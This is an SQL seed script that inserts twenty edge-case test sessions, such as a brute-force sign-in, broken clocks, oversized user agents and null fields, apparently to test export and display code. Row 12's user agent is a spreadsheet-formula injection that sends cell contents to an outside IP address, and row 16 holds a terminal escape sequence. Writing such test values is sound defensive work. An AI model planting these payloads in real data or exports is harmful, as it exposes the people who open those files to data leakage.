-- The sessions 1 to 20 of the draft: those of the stories, and the rows no reader expects.
-- All are on the last day of the month; sessions.sql gives them their serial numbers.
--
--   1        follows 147 failed sign-ins on user 4, by a script, at 03:37; revoked by an administrator at 08:42
--   2, 3     user 5 in the office and in another network at once, on two devices
--   4        a logout 2 s before the sign-in: two clocks
--   5        a logout 2 h before the sign-in
--   6, 7     expires_at 'infinity' and '9999-12-31', still open
--   8        a user agent of 32,768 characters, one more than a cell of a workbook holds
--   9        created_at is null
--   10       an IPv4 address written as IPv6
--   11       belongs to nobody: user_id is null
--   12       a user agent that a workbook would run as a formula
--   13       no length at all: the logout is in the microsecond of the sign-in
--   14       ends in the last microsecond of the day
--   15, 16   users 6 and 7, whose names hold an emoji and control characters
--   17       no address
--   18       open over midnight: 8 hours from 22:10, its logout not yet written
--   19, 20   users 8 and 9 at the same minute, from one address

INSERT INTO session_draft
SELECT n, CASE WHEN n <> 11 THEN coalesce(w.user_id, c.user_id) END,
  CASE WHEN n <> 17 THEN coalesce(w.ip::inet, a.ip) END, w.agent, :'story'::timestamp + at::interval,
  lifetime::interval, fate, :'story'::timestamp + until::interval
FROM (VALUES
  (1, 4, '203.0.113.77', 'python-requests/2.32.3', '03:37:12.406118', '8 hours', 'revoked', '08:42:51.090442'),
  (2, 5, '10.20.1.45', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36',
    '10:02:11.730551', '2 hours', 'logout', '11:31:07.200914'),
  (3, 5, '198.51.100.140', 'Mozilla/5.0 (Linux; Android 15; Pixel 9) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Mobile Safari/537.36',
    '10:20:40.118873', '2 hours', 'logout', '11:05:55.645320'),
  (4, NULL, NULL, 'EfysSaha/2.4.1 (Android 14; okhttp/4.12.0)', '09:15:02.500000', '2 hours', 'logout', '09:15:00.500000'),
  (5, NULL, NULL, 'EfysSaha/2.4.1 (Android 14; okhttp/4.12.0)', '13:20:00.000000', '2 hours', 'logout', '11:20:00.000000'),
  (6, NULL, NULL, 'EfysSaha/2.4.1 (Android 14; okhttp/4.12.0)', '08:05:41.311906', '2 hours', 'expired', NULL),
  (7, NULL, NULL, 'EfysSaha/2.4.1 (Android 14; okhttp/4.12.0)', '08:06:12.004417', '2 hours', 'expired', NULL),
  (8, NULL, NULL, left('Mozilla/5.0 (' || repeat('uzun tarayıcı adı; ', 2000), 32767) || ')', '14:44:19.870063', '2 hours', 'logout', '15:02:33.550128'),
  (9, NULL, NULL, 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36',
    '11:00:00.000000', '2 hours', 'cleared', NULL),
  (10, NULL, '::ffff:198.51.100.23', 'Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:143.0) Gecko/20100101 Firefox/143.0',
    '15:30:09.415770', '2 hours', 'logout', '16:01:48.703911'),
  (11, NULL, NULL, 'Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:143.0) Gecko/20100101 Firefox/143.0', '12:12:12.121212', '2 hours', 'expired', NULL),
  (12, NULL, NULL, '=HYPERLINK("http://203.0.113.5/?"&A1;"tıklayın")', '16:20:31.008852', '2 hours', 'logout', '16:29:10.771204'),
  (13, NULL, NULL, '', '17:05:00.250000', '2 hours', 'logout', '17:05:00.250000'),
  (14, NULL, NULL, 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36',
    '22:41:07.639041', '2 hours', 'logout', '23:59:59.999999'),
  (15, 6, NULL, 'Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1',
    '09:40:22.917366', '2 hours', 'logout', '10:15:48.026450'),
  (16, 7, NULL, E'Mozilla/5.0\t(satır\nsonu; \u001b[2J)', '09:41:05.562001', '2 hours', 'logout', '11:02:17.338290'),
  (17, NULL, NULL, 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36',
    '13:37:45.101010', '2 hours', 'expired', NULL),
  (18, NULL, NULL, 'Mozilla/5.0 (iPad; CPU OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1',
    '22:10:30.484848', '8 hours', 'expired', NULL),
  (19, 8, '10.20.3.118', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:143.0) Gecko/20100101 Firefox/143.0', '10:30:00.000001', '2 hours', 'logout', '11:00:00.000001'),
  (20, 9, '10.20.3.118', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:143.0) Gecko/20100101 Firefox/143.0', '10:30:00.000002', '2 hours', 'logout', '11:00:00.000002')
) AS w (n, user_id, ip, agent, at, lifetime, fate, until)
JOIN colleague c ON c.place = w.n + 10
JOIN address a ON a.user_id = coalesce(w.user_id, c.user_id) AND a.slot = 0;
